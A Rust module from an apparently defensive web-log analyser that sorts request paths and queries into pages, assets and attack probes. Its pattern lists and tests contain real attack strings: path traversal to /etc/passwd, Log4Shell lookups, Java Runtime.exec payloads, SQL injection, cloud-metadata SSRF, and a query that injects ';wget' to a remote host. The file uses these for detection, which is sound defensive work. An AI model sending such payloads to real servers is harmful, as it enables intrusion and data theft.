//! Classifies a request's target by its text alone, without the answer or the site.
//!
//! These are not signatures of attacks but shapes that no page links to (a hidden file, a backup, a traversal, another
//! product's installer), so that requests for several of them are probing whatever the server answers.
//! A path is classified as the server reads it (`served_path.rs`). `docs/detection.md` gives the reasons and the measured
//! effect; `trace.rs` adds the answer.

use crate::detect::injection;
use crate::detect::login;
use crate::detect::served_path::Served;
use crate::detect::template;

/// A class of paths.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// A file that pages embed by the dozen: images, styles, scripts, fonts, media.
    Asset,
    /// Any path without a shape of its own.
    Page,
    /// A server-side script by its extension (`.php`, `.asp`, …).
    Script,
    /// An archive, dump, backup or configuration file by its extension, or a name that some sites use: a download or a
    /// page where it is served, a probe where it is not.
    Dubious,
    /// A target that no page links to, even where something is served for it.
    Probe,
    /// No path of this server: empty, binary, a proxy request, `CONNECT host:port`.
    Foreign,
}

/// The classification of a path.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Shape {
    /// The class of the whole path.
    pub kind: Kind,
    /// The length of the prefix that decides the kind: `/phpmyadmin` of `/phpmyadmin/index.php`. Of other kinds than
    /// [`Kind::Probe`] the whole path.
    pub told_by: usize,
    /// Whether passwords are posted here, by the last segment's name.
    pub login: bool,
    /// Whether it is WordPress's endpoint for remote calls, at which passwords are tried too. Not counted as a login:
    /// its applications make a dozen calls at once when they start.
    pub remote_call: bool,
}

/// Classifies what is served for a target that is not served as it is written.
pub(crate) fn of_served(served: &Served<'_, '_>, shape: Shape) -> Shape {
    let spelling = served.spelling;
    let is_probe = spelling.is_telling || spelling.above_root >= MIN_TRAVERSAL_LEVELS;
    if is_probe && served.path.first() == Some(&b'/') && shape.kind != Kind::Probe {
        return Shape { kind: Kind::Probe, told_by: served.path.len(), ..shape };
    }
    shape
}

/// Crawlers that resolve a relative link wrongly leave the root by a level or two.
const MIN_TRAVERSAL_LEVELS: u32 = 3;

/// Classifies a path as it is served (see `served_path.rs`), without a query.
pub fn of_path(path: &[u8]) -> Shape {
    let name = last_segment(path);
    let login = is_login(name);
    let remote_call = path.ends_with(b"/xmlrpc.php");
    let shape = |kind, told_by| Shape { kind, told_by, login, remote_call };
    if path == b"*" {
        return shape(Kind::Page, path.len());
    }
    if path.first() != Some(&b'/') || has_control(path) {
        return shape(Kind::Foreign, path.len());
    }
    if has_look_up(path) {
        return shape(Kind::Probe, path.len());
    }
    let segments = by_segments(path);
    if let BySegments::Probe(end) = segments {
        return shape(Kind::Probe, end);
    }
    let kind = match kind_by_ending(name) {
        Kind::Page if matches!(segments, BySegments::Dubious) => Kind::Dubious,
        Kind::Script if is_foreign_script(path) => Kind::Dubious,
        Kind::Page if is_plugin_document(path) => Kind::Dubious,
        // Deeper down, archives belong to package mirrors, whose clients request many that do not exist.
        Kind::Dubious if is_packed(path) && depth(path) > MAX_BACKUP_DEPTH => Kind::Asset,
        kind => kind,
    };
    shape(kind, path.len())
}

/// Whether a path holds a look-up of Java's, which whatever logs it may work out: `${jndi:…}`, `${::-j}`. A page whose template was
/// not filled in asks for `${post.slug}`, without the name of what is looked up.
fn has_look_up(path: &[u8]) -> bool {
    memchr::memchr_iter(b'$', path).any(|at| {
        let Some(inner) = path[at + 1..].strip_prefix(b"{") else { return false };
        inner.get(inner.iter().take_while(|byte| byte.is_ascii_alphabetic()).count()) == Some(&b':')
    })
}

/// Backups lie where the site does: `/site.zip`, `/backup/site.zip`.
const MAX_BACKUP_DEPTH: usize = 2;

fn depth(path: &[u8]) -> usize {
    path.iter().filter(|b| **b == b'/').count()
}

fn is_packed(path: &[u8]) -> bool {
    [&b".zip"[..], b".tar", b".gz", b".tgz", b".rar", b".7z", b".bz2", b".xz"]
        .iter()
        .any(|end| path.ends_with(end))
}

/// A script in a directory whose scripts WordPress only includes, or named like one of WordPress's own without being
/// one.
fn is_foreign_script(path: &[u8]) -> bool {
    const CORE: [&[u8]; 9] = [
        b"wp-login.php",
        b"wp-cron.php",
        b"wp-signup.php",
        b"wp-activate.php",
        b"wp-comments-post.php",
        b"wp-mail.php",
        b"wp-trackback.php",
        b"wp-links-opml.php",
        b"wp-load.php",
    ];
    let name = last_segment(path);
    let inside = |dir: &[u8]| memchr::memmem::find(path, dir).is_some();
    inside(b"/wp-content/")
        || inside(b"/wp-includes/")
        || inside(b"/.well-known/")
        || (name.starts_with(b"wp-") && !CORE.contains(&name))
}

/// A document of WordPress or a plugin that no page links to: requested to find out what is installed.
fn is_plugin_document(path: &[u8]) -> bool {
    let mut lower = [0; 16];
    let name = last_segment(path);
    name.len() <= lower.len()
        && matches!(
            lowered(name, &mut lower),
            b"readme.txt" | b"readme.html" | b"readme.md" | b"changelog.txt" | b"license.txt"
        )
}

/// Returns whether a page's name reads like an article's (`/why-we-moved-to-a-new-house`): those disappear by the hundred
/// when a site is rebuilt, and crawlers go on requesting them. Guessed names are short.
pub(crate) fn is_article(path: &[u8]) -> bool {
    let path = path.strip_suffix(b"/").unwrap_or(path);
    memchr::memchr3_iter(b'-', b'_', b'+', last_segment(path)).nth(MIN_ARTICLE_JOINTS - 1).is_some()
}

/// Whether a path names an item by something that nobody can guess, a hash or a UUID: who asks for it was told of it by a page,
/// and when it is gone, that is a broken picture and no word of a list. Not behind a script, which answers whatever follows it.
pub(crate) fn is_unguessable(path: &[u8]) -> bool {
    template::names_an_item(path)
        && !segments(path).any(|name| matches!(kind_by_ending(name), Kind::Script | Kind::Dubious))
}

/// Whether a path at the root is one that browsers, crawlers and previews ask every site for, whether it has it or not: an icon,
/// a map of the site, a feed, a file of `.well-known` (RFC 8615).
pub(crate) fn is_conventional(path: &[u8]) -> bool {
    const NAMES: [&[u8]; 20] = [
        b"robots.txt",
        b"humans.txt",
        b"ads.txt",
        b"app-ads.txt",
        b"sellers.json",
        b"security.txt",
        b"llms.txt",
        b"manifest.json",
        b"site.webmanifest",
        b"browserconfig.xml",
        b"crossdomain.xml",
        b"apple-app-site-association",
        b"feed",
        b"rss",
        b"feed.xml",
        b"rss.xml",
        b"atom.xml",
        b"index.xml",
        b"index.rdf",
        b"opensearch.xml",
    ];
    if let Some(inside) = path.strip_prefix(b"/.well-known/") {
        let is_document = [&b".txt"[..], b".json", b".xml"].iter().any(|end| inside.ends_with(end));
        return is_document || !(inside.is_empty() || inside.contains(&b'.'));
    }
    let name = path.strip_prefix(b"/").unwrap_or(path);
    let name = name.strip_suffix(b"/").unwrap_or(name);
    if name.contains(&b'/') {
        return false;
    }
    let is_map = (name.starts_with(b"sitemap") || memchr::memmem::find(name, b"-sitemap").is_some())
        && (name.ends_with(b".xml") || name.ends_with(b".xml.gz") || name.ends_with(b".txt"));
    let is_icon = [&b"favicon"[..], b"apple-touch-icon"].iter().any(|start| name.starts_with(start))
        && kind_by_ending(name) == Kind::Asset;
    is_map || is_icon || NAMES.contains(&name)
}

/// Three words or more.
const MIN_ARTICLE_JOINTS: usize = 2;

/// A class of queries.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Query<'a> {
    /// Any other.
    Plain,
    /// It names an asset (`?src=a.jpg`), so the page serves one.
    Asset,
    /// It contains a password, with its value.
    Password(&'a [u8]),
    /// It contains text that sites rarely send (a tag, another server's URL): a probe where it is refused.
    Dubious,
    /// It contains text that no form sends: traversal, a script, SQL, code.
    Probe,
}

/// Classifies a query (with its `?`, if there is one).
pub fn of_query(query: &[u8]) -> Query<'_> {
    if query.len() < 4 {
        return Query::Plain;
    }
    let mut lower = [0; 512];
    let lower = lowered(query, &mut lower);
    if let Some(password) = password_in(query, lower) {
        return Query::Password(password);
    }
    let seen = bytes_of(lower);
    let is_encoded = seen[usize::from(b'%')] || seen[usize::from(b'+')];
    if is_query_probe(lower, &seen) || (is_encoded && is_probe_when_decoded(lower)) {
        return Query::Probe;
    }
    if holds(lower, &seen, &QUERY_DUBIOUS) {
        return Query::Dubious;
    }
    if seen[usize::from(b'.')] && is_asset_query(query) { Query::Asset } else { Query::Plain }
}

/// Which bytes occur in a text.
fn bytes_of(text: &[u8]) -> [bool; 256] {
    let mut seen = [false; 256];
    text.iter().for_each(|byte| seen[usize::from(*byte)] = true);
    seen
}

/// Searches for a text only if its rarest byte occurs: nearly every query has none of them.
pub(super) fn holds(text: &[u8], seen: &[bool; 256], probes: &[(u8, &[u8])]) -> bool {
    probes.iter().any(|(rare, probe)| seen[usize::from(*rare)] && memchr::memmem::find(text, probe).is_some())
}

fn is_query_probe(lower: &[u8], seen: &[bool; 256]) -> bool {
    holds(lower, seen, &QUERY_PROBES) || is_evaluated(lower, seen) || injection::holds_sql(lower, seen)
}

/// An expression between a template's braces that only tells whether it is worked out: `{{7*7}}`.
fn is_evaluated(lower: &[u8], seen: &[bool; 256]) -> bool {
    let may_be = seen[usize::from(b'{')] && seen[usize::from(b'*')];
    may_be
        && memchr::memchr_iter(b'{', lower).any(|at| {
            let inner = &lower[at + 1..];
            let digits = inner.iter().take_while(|byte| byte.is_ascii_digit()).count();
            digits > 0
                && inner.get(digits) == Some(&b'*')
                && inner.get(digits + 1).is_some_and(u8::is_ascii_digit)
        })
}

/// Whether a text of [`QUERY_PROBES`] shows when the query is decoded once.
fn is_probe_when_decoded(lower: &[u8]) -> bool {
    let (mut decoded, mut len, mut rest) = ([0; 512], 0, lower);
    while let Some((byte, behind)) = rest.split_first() {
        let code = (*byte == b'%').then(|| hex_byte(behind)).flatten();
        let byte = if *byte == b'+' { b' ' } else { *byte };
        let (byte, behind) = code.map_or((byte, behind), |byte| (byte.to_ascii_lowercase(), &behind[2..]));
        decoded[len] = byte;
        (len, rest) = (len + 1, behind);
    }
    let decoded = &decoded[..len];
    is_query_probe(decoded, &bytes_of(decoded))
}

fn hex_byte(digits: &[u8]) -> Option<u8> {
    let digit = |at: usize| char::from(*digits.get(at)?).to_digit(16);
    Some((digit(0)? * 16 + digit(1)?) as u8)
}

fn password_in<'a>(query: &'a [u8], lower: &[u8]) -> Option<&'a [u8]> {
    let value_at = memchr::memchr_iter(b'=', lower).find_map(|at| {
        let name = &lower[..at];
        let start = name.iter().rposition(|b| matches!(b, b'?' | b'&' | b';')).map_or(0, |at| at + 1);
        is_password_name(&query[start..at], &lower[start..at]).then_some(at + 1)
    })?;
    query[value_at..].split(|b| *b == b'&').next()
}

/// Whether a parameter's name, as written and in lower case, ends in a word for a password: `pwd`, `pma_password`,
/// `user[passwd]`, `userPassword`.
fn is_password_name(name: &[u8], lower: &[u8]) -> bool {
    let lower = lower.strip_suffix(b"]").unwrap_or(lower);
    let word = [&b"password"[..], b"passwd", b"pwd", b"pass"].into_iter().find(|word| lower.ends_with(word));
    let Some(joint) = word.map(|word| lower.len() - word.len()) else { return false };
    // `compass` is no password: a joint or a capital letter begins the word.
    joint == 0 || !name[joint - 1].is_ascii_alphanumeric() || name[joint].is_ascii_uppercase()
}

fn is_asset_query(query: &[u8]) -> bool {
    query.split(|b| matches!(b, b'&' | b'=' | b'?')).any(|part| kind_by_ending(part) == Kind::Asset)
}

/// Texts with their rarest byte. Those with a space are found once the query is decoded.
const QUERY_PROBES: [(u8, &[u8]); 42] = [
    (b'/', b"../"),
    (b'%', b"..%2f"),
    (b'%', b"%2e%2e"),
    (b'\\', b"..\\"),
    (b'/', b"/etc/passwd"),
    (b'%', b"%2fetc%2f"),
    (b'<', b"<script"),
    (b'%', b"%3cscript"),
    (b'(', b"sleep("),
    (b':', b"php://"),
    (b'_', b"allow_url_include"),
    (b'_', b"auto_prepend_file"),
    (b'k', b"invokefunction"),
    (b'$', b"${jndi"),
    (b'.', b"win.ini"),
    // Files and other servers that only the server itself can reach.
    (b'/', b"/proc/self/"),
    (b':', b"file:///"),
    (b':', b"gopher://"),
    (b':', b"expect://"),
    (b':', b"phar://"),
    (b'.', b"169.254.169.254"),
    // Classes and functions of the languages that pages are written in.
    (b'.', b"java.lang.runtime"),
    (b'(', b"getruntime("),
    (b'@', b"@java.lang"),
    (b'_', b"_memberaccess"),
    (b'.', b"classloader."),
    (b'_', b"__globals__"),
    (b'_', b"__class__"),
    (b'_', b"__import__"),
    (b'.', b"freemarker.template"),
    (b'(', b"phpinfo("),
    (b'(', b"base64_decode("),
    // Commands.
    (b'/', b"/bin/sh"),
    (b'/', b"/bin/bash"),
    (b'/', b"/dev/tcp/"),
    (b';', b";wget "),
    (b'|', b"|wget "),
    (b';', b";curl "),
    (b'|', b"|curl "),
    // Scripts without their tag.
    (b'<', b"<svg/on"),
    (b'<', b"<svg on"),
    (b'<', b"<img src=x"),
];

const QUERY_DUBIOUS: [(u8, &[u8]); 7] = [
    (b'<', b"<"),
    (b'%', b"%3c"),
    (b':', b"=http://"),
    (b':', b"=ftp://"),
    (b'=', b"cmd="),
    (b'(', b"prompt("),
    (b'(', b"alert("),
];

/// Path segments, in lower case, of the internals of other products or of an attacker's tools.
static PROBE_SEGMENTS: Names = Names::new(&[
    b"wlwmanifest.xml",
    b"wp-config.php",
    b"setup-config.php",
    b"wp-config",
    b"wp_filemanager.php",
    b"eval-stdin.php",
    b"phpunit",
    b"phpinfo",
    b"phpinfo.php",
    b"info.php",
    b"_profiler",
    b"_ignition",
    b"phpmyadmin",
    b"pma",
    b"myadmin",
    b"mysqladmin",
    b"mysql-admin",
    b"sqladmin",
    b"dbadmin",
    b"phpmyadmin2",
    b"phpmyadmin3",
    b"phpmyadmin4",
    b"phpadmin",
    b"adminer",
    b"adminer.php",
    b"websql",
    b"sqlmanager",
    b"cgi-bin",
    b"boaform",
    b"hnap1",
    b"gponform",
    b"goform",
    b"setup.cgi",
    b"actuator",
    b"server-status",
    b"server-info",
    b"jmx-console",
    b"web-console",
    b"geoserver",
    b"_all_dbs",
    b"_catalog",
    b"web-inf",
    b"meta-inf",
    b"login.action",
    b"@vite",
    b"@fs",
    b"_environment",
    b"id_rsa",
    b"passwd",
    b"alfacgiapi",
    b"alfa_data",
    b"boot.ini",
]);

/// Segments that some sites use for their own pages, so that only a refusal is suspicious.
static DUBIOUS_SEGMENTS: Names = Names::new(&[
    b"manager",
    b"containers",
    b"credentials",
    b"etc",
    b"proc",
    b"sdk",
    b"evox",
    b"tmpfs",
    b"telescope",
    b"console",
]);

/// Names in lower case, each a bit: those with a first byte and those of a length rule out nearly every segment without a
/// comparison.
struct Names {
    all: &'static [&'static [u8]],
    by_first: [u64; 256],
    by_length: [u64; 32],
}

impl Names {
    /// At most 64 names of 1 to 31 bytes.
    const fn new(all: &'static [&'static [u8]]) -> Names {
        let mut names = Names { all, by_first: [0; 256], by_length: [0; 32] };
        let mut at = 0;
        while at < all.len() {
            names.by_first[all[at][0] as usize] |= 1 << at;
            names.by_length[all[at].len()] |= 1 << at;
            at += 1;
        }
        names
    }

    /// Returns whether a segment is one of these, ignoring case.
    #[inline]
    fn has(&self, segment: &[u8]) -> bool {
        let Some((first, of_length)) = segment.first().zip(self.by_length.get(segment.len())) else {
            return false;
        };
        let mut left = self.by_first[usize::from(first.to_ascii_lowercase())] & of_length;
        while left != 0 {
            if segment.eq_ignore_ascii_case(self.all[left.trailing_zeros() as usize]) {
                return true;
            }
            left &= left - 1;
        }
        false
    }
}

/// What a path is by its segments.
enum BySegments {
    /// No page links to the part of it that ends here.
    Probe(usize),
    /// Some segment is one of [`DUBIOUS_SEGMENTS`].
    Dubious,
    Plain,
}

fn by_segments(path: &[u8]) -> BySegments {
    let (mut at, mut is_dubious) = (0, false);
    for (depth, segment) in segments(path).enumerate() {
        let end = at + segment.len();
        if is_probe_segment(segment, depth) {
            return BySegments::Probe(end);
        }
        is_dubious |= DUBIOUS_SEGMENTS.has(segment);
        at = end + 1;
    }
    if is_dubious { BySegments::Dubious } else { BySegments::Plain }
}

fn is_probe_segment(segment: &[u8], depth: usize) -> bool {
    match segment {
        [] => false,
        // A hidden file near the root; deeper ones are pages of code hosts. `.well-known` is a standard (RFC 8615).
        [b'.', ..] => depth <= 3 && segment != b".well-known",
        _ => PROBE_SEGMENTS.has(segment),
    }
}

/// The parts between slashes, including empty ones.
fn segments(path: &[u8]) -> impl Iterator<Item = &[u8]> {
    let ends = memchr::memchr_iter(b'/', path).chain([path.len()]);
    ends.scan(0, |start, end| path.get(std::mem::replace(start, end + 1)..end))
}

/// Returns whether there is a control byte. Without branches, so that it compiles to SIMD instructions.
fn has_control(path: &[u8]) -> bool {
    path.iter().fold(false, |found, byte| found | (*byte < 0x20))
}

fn last_segment(path: &[u8]) -> &[u8] {
    &path[memchr::memrchr(b'/', path).map_or(0, |at| at + 1)..]
}

/// Copies as much of `text` as fits into `space`, in lower case.
fn lowered<'a>(text: &[u8], space: &'a mut [u8]) -> &'a [u8] {
    let len = text.len().min(space.len());
    for (to, from) in space.iter_mut().zip(text) {
        *to = from.to_ascii_lowercase();
    }
    &space[..len]
}

fn kind_by_ending(segment: &[u8]) -> Kind {
    if segment.last() == Some(&b'~') {
        return Kind::Dubious;
    }
    let Some(dot) = memchr::memrchr(b'.', segment) else { return Kind::Page };
    let ending = &segment[dot + 1..];
    let mut lower = [0; 11];
    if ending.len() > lower.len() {
        return Kind::Page;
    }
    match lowered(ending, &mut lower) {
        b"css" | b"js" | b"mjs" | b"map" | b"wasm" | b"png" | b"jpg" | b"jpeg" | b"gif" | b"svg"
        | b"webp" | b"avif" | b"ico" | b"bmp" | b"xbm" | b"tif" | b"tiff" | b"heic" | b"woff" | b"woff2"
        | b"ttf" | b"otf" | b"eot" | b"mp3" | b"mp4" | b"m4a" | b"m4v" | b"m4s" | b"webm" | b"ogg"
        | b"oga" | b"ogv" | b"opus" | b"flac" | b"wav" | b"avi" | b"mov" | b"mpg" | b"mpeg" | b"ts"
        | b"m3u8" | b"mpd" | b"vtt" | b"srt" | b"pdf" | b"pbf" | b"mvt" | b"webmanifest" | b"vcf"
        | b"pmtiles" | b"bin" | b"dat" | b"pak" | b"bundle" | b"glb" | b"gltf" | b"ktx2" | b"nfo"
        | b"tbn" | b"sub" | b"idx" | b"ass" | b"ssa" | b"smi" | b"sup" | b"cue" | b"lrc" => Kind::Asset,
        b"php" | b"php3" | b"php4" | b"php5" | b"php7" | b"php8" | b"phtml" | b"asp" | b"aspx" | b"ashx"
        | b"asmx" | b"jsp" | b"jspx" | b"jspa" | b"cgi" | b"pl" | b"cfm" | b"dll" | b"exe" | b"sh"
        | b"py" | b"action" | b"do" => Kind::Script,
        b"zip" | b"tar" | b"gz" | b"tgz" | b"rar" | b"7z" | b"bz2" | b"xz" | b"sql" | b"sqlite"
        | b"sqlite3" | b"db" | b"mdb" | b"dump" | b"bak" | b"backup" | b"bkp" | b"old" | b"orig"
        | b"save" | b"swp" | b"swo" | b"tmp" | b"log" | b"ini" | b"conf" | b"cfg" | b"cnf" | b"env"
        | b"yml" | b"yaml" | b"toml" | b"properties" | b"inc" | b"dist" | b"pem" | b"key" | b"p12"
        | b"pfx" | b"jks" | b"ppk" | b"ovpn" | b"config" => Kind::Dubious,
        _ => Kind::Page,
    }
}

/// Whether a name begins as one for a login may, or ends so before its extension: rules out most names.
fn may_be_login(name: &[u8]) -> bool {
    let begins =
        |name: &[u8]| name.first().is_some_and(|first| b"lsaj".contains(&first.to_ascii_lowercase()));
    let ends = |stem: &[u8]| stem.last().is_some_and(|last| last.eq_ignore_ascii_case(&b'n'));
    let stem = memchr::memrchr(b'.', name).map_or(name, |dot| &name[..dot]);
    begins(name) || ends(name) || ends(stem)
}

/// Whether passwords are posted to a page of this name.
fn is_login(segment: &[u8]) -> bool {
    may_be_login(segment) && is_login_by_words(segment)
}

fn is_login_by_words(segment: &[u8]) -> bool {
    const EXTENSIONS: [&[u8]; 8] =
        [b".php", b".aspx", b".asp", b".jsp", b".do", b".action", b".cgi", b".json"];
    let mut lower = [0; 32];
    if segment.len() > lower.len() {
        return false;
    }
    let name = lowered(segment, &mut lower);
    let stem = EXTENSIONS.iter().find_map(|extension| name.strip_suffix(*extension));
    let stem = stem.unwrap_or(name);
    login::is_login_name(stem) || login::is_session_name(stem)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn kinds_of_paths() {
        let check = |path: &str, kind: Kind| assert_eq!(of_path(path.as_bytes()).kind, kind, "{path}");
        for page in [
            "/posts/${post.slug}",
            "/${image}",
            "/",
            "/about",
            "/.well-known/acme-challenge/x",
            "*",
            "/wp-admin/",
            "/a/b/c/.github/workflows/x",
        ] {
            check(page, Kind::Page);
        }
        check("/debian/dists/stable/main/i18n/Translation-en.xz", Kind::Asset);
        for asset in ["/a.css", "/img/Photo.JPG", "/wp-includes/js/jquery.min.js"] {
            check(asset, Kind::Asset);
        }
        for script in ["/index.php", "/shell.PHP", "/a/b.aspx", "/wp-login.php"] {
            check(script, Kind::Script);
        }
        for archive in
            ["/dump.sql", "/site.zip", "/index.php~", "/config.yml", "/data/migrations/1_users.sql"]
        {
            check(archive, Kind::Dubious);
        }
        for probe in [
            "/.env",
            "/.git/config",
            "/cgi-bin/luci",
            "/blog/wp-includes/wlwmanifest.xml",
            "/phpMyAdmin/index.php",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/${jndi:ldap://203.0.113.9/a}",
            "/x/${${lower:j}ndi:dns://203.0.113.9}",
            "/${::-j}",
        ] {
            check(probe, Kind::Probe);
        }
        for foreign in ["", "\u{16}\u{3}", "example.org:443", "http://example.org/"] {
            check(foreign, Kind::Foreign);
        }
    }

    #[test]
    fn conventional_targets() {
        for path in [
            "/favicon.ico",
            "/apple-touch-icon-120x120-precomposed.png",
            "/sitemap.xml.gz",
            "/news-sitemap.xml",
            "/feed/",
            "/.well-known/assetlinks.json",
            "/.well-known/acme-challenge/x",
        ] {
            assert!(is_conventional(path.as_bytes()), "{path}");
        }
        for path in
            ["/", "/.well-known/x.php", "/a/robots.txt", "/sitemap.zip", "/favicon.php", "/feeds", "/backup"]
        {
            assert!(!is_conventional(path.as_bytes()), "{path}");
        }
    }

    #[test]
    fn pages_under_a_probed_name_are_one_target() {
        let path = b"/phpmyadmin/index.php";
        assert_eq!(of_path(path).told_by, b"/phpmyadmin".len());
        assert_eq!(of_path(b"/a/b").told_by, 4);
    }

    #[test]
    fn login_pages() {
        let check =
            |path: &str, expected: bool| assert_eq!(of_path(path.as_bytes()).login, expected, "{path}");
        check("/wp-login.php", true);
        check("/apps/Login", true);
        check("/api/auth/login", true);
        check("/j_security_check", true);
        check("/user/login.action", true);
        check("/loginprofile/get_profile", false);
        check("/login/v2/poll", false);
        check("/api/token", false);
    }

    proptest! {
        /// What is looked at first rules out no name of a login.
        #[test]
        fn no_login_is_ruled_out_by_its_first_and_last_letter(
            pieces in prop::collection::vec(prop::sample::select(vec![
                "login", "LOGON", "signin", "sign_in", "Sign-In", "authenticate", "j_security_check", "sessions", "session",
                "j_spring_security_check", ".php", ".aspx", ".json", ".Do", ".x", ".", "user", "my", "_", "2",
            ]), 0..5),
        ) {
            let name = pieces.concat();
            prop_assert_eq!(is_login(name.as_bytes()), is_login_by_words(name.as_bytes()), "{}", name);
        }
    }

    #[test]
    fn kinds_of_queries() {
        let check =
            |query: &str, expected: Query<'_>| assert_eq!(of_query(query.as_bytes()), expected, "{query}");
        check("", Query::Plain);
        check("?page=2&sort=name", Query::Plain);
        check("?forcepwd=2&compass=north", Query::Plain);
        check("?src=/a/b.jpg&w=200", Query::Asset);
        check("?file=../../etc/passwd", Query::Probe);
        check("?a=%3CScript%3E", Query::Probe);
        check("?x=http://example.org/shell.txt", Query::Dubious);
        check("?usr=admin&Pwd=1234&x", Query::Password(b"1234"));
        check("?pma_username=root&pma_password=1234", Query::Password(b"1234"));
        check("?user[passwd]=1234&userPassword=5", Query::Password(b"1234"));
        check("?userPassword=5", Query::Password(b"5"));
        check("?q=credit+union+springfield", Query::Plain);
        check("?q=credit+union+selected", Query::Plain);
        check("?id=1+UNION/**/ALL+select+2", Query::Probe);
        check("?id=1%20un%69on%20select%202", Query::Probe);
        check("?file=.%2e/.%2E/%65tc/passwd", Query::Probe);
        check(
            "?x=%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D",
            Query::Probe,
        );
        check("?name={{7*7}}", Query::Probe);
        check("?name=%24%7B7%2A7%7D", Query::Probe);
        check("?host=1.2.3.4;wget+http://203.0.113.9/x", Query::Probe);
        check("?url=http%3A%2F%2F169.254.169.254%2Flatest", Query::Probe);
        check("?q=template+{{name}}+2*3", Query::Plain);
        check("?q=what+is+a+classloader", Query::Plain);
    }

    #[test]
    fn segments_are_the_pieces_between_slashes() {
        for path in ["", "/", "/a", "a/", "//", "/a/b//c", "abc"] {
            let pieces: Vec<_> = path.as_bytes().split(|byte| *byte == b'/').collect();
            assert_eq!(segments(path.as_bytes()).collect::<Vec<_>>(), pieces, "{path}");
        }
    }
}
